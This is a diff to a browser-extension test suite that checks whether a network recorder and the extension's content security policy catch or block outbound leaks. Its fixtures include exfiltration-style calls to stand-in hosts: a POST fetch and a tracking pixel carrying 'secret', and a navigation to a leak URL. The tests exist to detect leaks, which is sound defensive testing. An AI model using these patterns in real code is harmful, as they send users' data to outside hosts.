@@ -32,18 +32,48 @@ describe.each<BrowserName>(['chromium', 'firefox'])('the network recorder in %s'
     expect(seen).toEqual(expect.arrayContaining(['CONNECT page-leak.invalid:443', 'GET http://page-leak.invalid/pixel.png?text=secret']));
   });
 
-  it('sees an extension page that reaches out', async () => {
+  it('finds that an extension page may load nothing from outside: its content security policy refuses it first', async () => {
     const control = await openControl(s.browser, s.server.url(''));
-    await control.page.evaluate(() => {
-      void fetch('http://extension-leak.invalid/report', { method: 'POST', body: 'secret' }).catch(() => undefined);
+    const refused = await control.page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+      const fetched = await fetch('http://extension-leak.invalid/report', { method: 'POST', body: 'secret' }).then(
+        () => 'fetched',
+        () => 'refused',
+      );
+      const image = await new Promise<string>((done) => {
+        const img = new Image();
+        img.onload = () => done('loaded');
+        img.onerror = () => done('refused');
+        img.src = 'http://extension-leak.invalid/pixel.png?text=secret';
+      });
+      await new Promise((r) => setTimeout(r, 100));
+      return { fetched, image, violations: [...new Set(violations)].sort() };
     });
-    expect(await leaked(['POST http://extension-leak.invalid/report'])).toContain('POST http://extension-leak.invalid/report');
+    expect(refused).toEqual({ fetched: 'refused', image: 'refused', violations: ['connect-src', 'img-src'] });
+    // Refused in the page, before any request: the recorder has nothing.
+    await sleep(1000);
+    expect((await networkRecorder()).take().map((r) => r.request).filter((r) => !browserOwn(r))).toEqual([]);
+  });
+
+  it('sees an extension page that reaches out where the policy cannot stop it (a navigation)', async () => {
+    const control = await openControl(s.browser, s.server.url(''));
+    await control.page.evaluate(() => void (location.href = 'http://extension-leak.invalid/report?text=secret'));
+    expect(await leaked(['GET http://extension-leak.invalid/report?text=secret'])).toContain('GET http://extension-leak.invalid/report?text=secret');
   });
 
   // Firefox runs the background as an event page, which a test cannot reach into.
   if (browserName === 'chromium')
-    it('sees the service worker reach out', async () => {
-      await s.browser.inBackground!(() => void fetch('https://worker-leak.invalid/').catch(() => undefined));
-      expect(await leaked(['CONNECT worker-leak.invalid:443'])).toContain('CONNECT worker-leak.invalid:443');
+    it('finds the service worker under the same policy: its fetch is refused and nothing is sent', async () => {
+      const outcome = await s.browser.inBackground!(() =>
+        fetch('https://worker-leak.invalid/').then(
+          () => 'fetched',
+          (e: unknown) => String(e),
+        ),
+      );
+      expect(outcome).not.toBe('fetched');
+      await sleep(1000);
+      // (The page the last test opened may still ask for its favicon: only the worker's address counts.)
+      expect((await networkRecorder()).take().map((r) => r.request).filter((r) => r.includes('worker-leak'))).toEqual([]);
     });
 });
